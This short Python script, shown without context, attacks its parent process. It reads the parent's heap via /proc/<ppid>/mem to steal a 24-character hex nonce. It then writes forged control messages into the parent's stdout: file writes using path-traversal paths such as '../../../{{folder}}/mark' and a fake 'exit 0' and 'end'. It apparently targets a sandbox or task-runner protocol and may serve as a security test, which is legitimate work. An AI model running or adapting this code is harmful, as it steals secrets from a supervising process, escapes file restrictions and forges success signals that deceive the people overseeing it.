import base64
import os
import re

def nonce():
    for line in open("/proc/%d/maps" % os.getppid()):
        if "[heap]" in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            with open("/proc/%d/mem" % os.getppid(), "rb") as memory:
                memory.seek(start)
                found = re.search(rb"[0-9a-f]{24}", memory.read(end - start))
                return found and found.group().decode()

try:
    word = nonce()
except OSError:
    word = None
text = base64.b64encode(b"forged").decode()
with open("/proc/%d/fd/1" % os.getppid(), "w") if os.access("/proc/%d/fd/1" % os.getppid(), os.W_OK) else open(os.devnull, "w") as out:
    out.write('\n%s file {"path": "../../../{{folder}}/mark", "base64": "%s"}\n' % (word, text))
    out.write('\n%s exit 0\n%s file {"path": "../mark", "base64": "%s"}\n%s end\n' % (word, word, text, word))
